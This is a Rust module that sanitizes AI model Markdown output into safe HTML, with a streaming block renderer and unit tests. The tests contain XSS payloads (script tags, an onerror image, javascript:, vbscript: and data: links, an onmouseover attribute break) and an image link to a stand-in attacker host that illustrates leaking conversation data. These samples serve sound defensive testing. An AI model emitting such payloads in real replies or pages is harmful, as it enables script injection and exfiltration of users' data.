//! Model output to HTML that is safe to insert into the page.
//!
//! Models write Markdown, and their output is untrusted: it may contain HTML, scripts, or
//! links and images crafted to leak the conversation. Rendering therefore:
//! * turns every raw HTML block or inline tag into visible text (it is escaped, never parsed),
//! * keeps links only for `http`, `https` and `mailto` destinations (others become plain text),
//! * shows images as links instead of loading them, so a reply cannot make the browser fetch
//!   a URL on its own (the classic Markdown-image exfiltration).
//!
//! The same function runs on the server (SSR) and in the browser (while a reply streams),
//! so both render identical HTML.

use pulldown_cmark::{html, CowStr, Event, Options, Parser, Tag, TagEnd};

pub fn render_markdown(text: &str) -> String {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut dropped_link = false;
    let events = Parser::new_ext(text, options).map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        Event::Start(Tag::Link {
            link_type,
            dest_url,
            title,
            id,
        })
        | Event::Start(Tag::Image {
            link_type,
            dest_url,
            title,
            id,
        }) => {
            if is_safe_url(&dest_url) {
                dropped_link = false;
                Event::Start(Tag::Link {
                    link_type,
                    dest_url,
                    title,
                    id,
                })
            } else {
                dropped_link = true;
                Event::Text(CowStr::Borrowed(""))
            }
        }
        Event::End(TagEnd::Link) | Event::End(TagEnd::Image) => {
            if dropped_link {
                dropped_link = false;
                Event::Text(CowStr::Borrowed(""))
            } else {
                Event::End(TagEnd::Link)
            }
        }
        other => other,
    });
    let mut out = String::with_capacity(text.len() + text.len() / 2);
    html::push_html(&mut out, events);
    out
}

fn is_safe_url(url: &str) -> bool {
    let lower = url.trim_start().to_ascii_lowercase();
    lower.starts_with("https://") || lower.starts_with("http://") || lower.starts_with("mailto:")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_the_common_markdown_of_replies() {
        let html = render_markdown(
            "Para **bold**\n\n- one\n- two\n\n```rust\nfn main() {}\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.com)",
        );
        for needle in [
            "<p>Para <strong>bold</strong></p>",
            "<li>one</li>",
            "<code class=\"language-rust\">fn main() {}",
            "<table>",
            "<td>1</td>",
            "<a href=\"https://example.com\">site</a>",
        ] {
            assert!(html.contains(needle), "{needle} missing from {html}");
        }
    }

    #[test]
    fn raw_html_is_shown_as_text_never_inserted() {
        let html = render_markdown("<script>alert(1)</script>\n\nhi <img src=x onerror=alert(1)>");
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("<img"), "{html}");
        assert!(html.contains("&lt;script&gt;"), "{html}");
    }

    #[test]
    fn dangerous_links_lose_their_link() {
        for md in [
            "[x](javascript:alert(1))",
            "[x](JAVASCRIPT:alert(1))",
            "[x]( javascript:alert(1))",
            "[x](data:text/html,<b>)",
            "[x](vbscript:msgbox)",
        ] {
            let html = render_markdown(md);
            assert!(!html.contains("<a"), "{md} -> {html}");
            assert!(html.contains('x'), "{md} -> {html}");
        }
    }

    #[test]
    fn images_become_links_and_are_never_loaded() {
        let html = render_markdown("![secret](https://evil.example/?q=data)");
        assert!(!html.contains("<img"), "{html}");
        assert!(
            html.contains("<a href=\"https://evil.example/?q=data\">secret</a>"),
            "{html}"
        );
        let html = render_markdown("![x](javascript:alert(1))");
        assert!(!html.contains("<a") && !html.contains("<img"), "{html}");
    }

    #[test]
    fn attribute_breaking_urls_are_escaped() {
        let html = render_markdown("[x](https://a.example/\"onmouseover=alert(1))");
        assert!(!html.contains("\"onmouseover"), "{html}");
    }
}

/// Renders a reply's Markdown while it streams, so the browser needs no Markdown code.
///
/// Top-level blocks are rendered once, as soon as they are complete (a blank line outside a
/// code fence, or a closing fence). The browser shows the rendered blocks followed by the
/// raw text of the block still being written; when the reply ends, [`finish`] renders the
/// whole text once more, which also settles what depends on later text (loose lists,
/// reference links).
///
/// Work is proportional to the text: each line is scanned once and each block rendered once.
///
/// [`finish`]: StreamingMarkdown::finish
#[derive(Debug, Default)]
pub struct StreamingMarkdown {
    text: String,
    /// Bytes of `text` already rendered.
    rendered: usize,
    /// Bytes of `text` already scanned for block boundaries (always at a line start).
    scanned: usize,
    /// The open code fence: its character and length.
    fence: Option<(char, usize)>,
}

impl StreamingMarkdown {
    pub fn new() -> Self {
        Self::default()
    }

    /// Adds a piece of the reply. Returns the HTML of the blocks it completed, if any; they
    /// cover the text up to [`rendered_len`](Self::rendered_len).
    pub fn push(&mut self, piece: &str) -> Option<String> {
        self.text.push_str(piece);
        let mut boundary = None;
        while let Some(newline) = self.text[self.scanned..].find('\n') {
            let line_end = self.scanned + newline + 1;
            let line = &self.text[self.scanned..line_end];
            let trimmed = line.trim_start_matches(' ');
            let indent = line.len() - trimmed.len();
            let fence = (indent < 4).then(|| fence_marker(trimmed)).flatten();
            match (self.fence, fence) {
                (None, Some(opened)) => self.fence = Some(opened),
                (Some((c, n)), Some((c2, n2)))
                    if c == c2 && n2 >= n && trimmed.trim_end().chars().all(|x| x == c) =>
                {
                    self.fence = None;
                    boundary = Some(line_end);
                }
                (None, None) if line.trim().is_empty() => boundary = Some(line_end),
                _ => {}
            }
            self.scanned = line_end;
        }
        let end = boundary.filter(|&b| b > self.rendered)?;
        let html = render_markdown(&self.text[self.rendered..end]);
        self.rendered = end;
        Some(html)
    }

    /// Bytes of the text covered by the HTML returned so far.
    pub fn rendered_len(&self) -> usize {
        self.rendered
    }

    /// The whole reply, rendered.
    pub fn finish(&self) -> String {
        render_markdown(&self.text)
    }
}

/// A code fence opener: three or more backticks or tildes.
fn fence_marker(line: &str) -> Option<(char, usize)> {
    let c = line.chars().next().filter(|c| *c == '`' || *c == '~')?;
    let n = line.chars().take_while(|x| *x == c).count();
    (n >= 3).then_some((c, n))
}

#[cfg(test)]
mod streaming_tests {
    use super::*;

    fn stream(pieces: &[&str]) -> (Vec<(String, usize)>, StreamingMarkdown) {
        let mut md = StreamingMarkdown::new();
        let mut out = Vec::new();
        for piece in pieces {
            if let Some(html) = md.push(piece) {
                out.push((html, md.rendered_len()));
            }
        }
        (out, md)
    }

    #[test]
    fn renders_each_paragraph_once_it_is_complete() {
        let (blocks, md) = stream(&["Hello **wor", "ld**\n", "\nSecond", " para\n\nThird"]);
        assert_eq!(blocks.len(), 2);
        assert_eq!(blocks[0].0, "<p>Hello <strong>world</strong></p>\n");
        assert_eq!(blocks[0].1, "Hello **world**\n\n".len());
        assert_eq!(blocks[1].0, "<p>Second para</p>\n");
        assert!(md.finish().ends_with("<p>Third</p>\n"));
    }

    #[test]
    fn blank_lines_inside_a_code_fence_do_not_split_it() {
        let (blocks, _) = stream(&["```rust\nfn a() {}\n\nfn b() {}\n", "```\nafter"]);
        assert_eq!(blocks.len(), 1, "{blocks:?}");
        assert!(blocks[0]
            .0
            .starts_with("<pre><code class=\"language-rust\">fn a() {}\n\nfn b() {}"));
    }

    #[test]
    fn the_final_rendering_equals_rendering_the_whole_text() {
        let text = "Intro\n\n- a\n- b\n\n~~~\nx\n\ny\n~~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n";
        for size in [1, 2, 3, 7, 50] {
            let pieces: Vec<String> = text
                .chars()
                .collect::<Vec<_>>()
                .chunks(size)
                .map(|c| c.iter().collect())
                .collect();
            let mut md = StreamingMarkdown::new();
            let mut html = String::new();
            for p in &pieces {
                if let Some(h) = md.push(p) {
                    html.push_str(&h);
                }
            }
            assert_eq!(md.finish(), render_markdown(text));
            // Blocks rendered on the way agree with the final rendering for this text.
            assert!(md.finish().starts_with(&html), "chunk size {size}");
        }
    }

    #[test]
    fn streamed_blocks_are_sanitized_too() {
        let (blocks, _) = stream(&["<script>x</script>\n\n"]);
        assert!(!blocks[0].0.contains("<script"));
    }
}
